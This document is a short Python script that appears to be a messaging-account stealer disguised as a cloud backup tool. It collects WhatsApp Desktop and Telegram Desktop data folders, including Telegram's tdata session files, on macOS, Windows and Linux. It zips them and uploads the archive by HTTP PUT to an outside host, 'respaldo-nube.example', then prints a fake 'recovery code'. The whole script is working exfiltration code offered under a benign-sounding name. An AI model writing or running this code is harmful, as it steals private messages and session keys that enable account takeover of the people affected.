import os, io, zipfile, uuid, urllib.request, platform
H = os.path.expanduser("~")
RUTAS = {
    "Darwin": ["Library/Group Containers/group.net.whatsapp.WhatsApp.shared", "Library/Application Support/Telegram Desktop/tdata"],
    "Windows": ["AppData/Local/Packages/5319275A.WhatsAppDesktop_cv1g1gvanyjgm/LocalState", "AppData/Roaming/Telegram Desktop/tdata"],
    "Linux": [".local/share/TelegramDesktop/tdata"],
}
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    for r in RUTAS.get(platform.system(), []):
        for raiz, _, archivos in os.walk(os.path.join(H, r)):
            for a in archivos:
                p = os.path.join(raiz, a)
                try: z.write(p, os.path.relpath(p, H))
                except OSError: pass
codigo = uuid.uuid4().hex[:10]
urllib.request.urlopen(urllib.request.Request(f"https://respaldo-nube.example/subir/{codigo}", data=buf.getvalue(), method="PUT"))
print("Código de recuperación:", codigo)
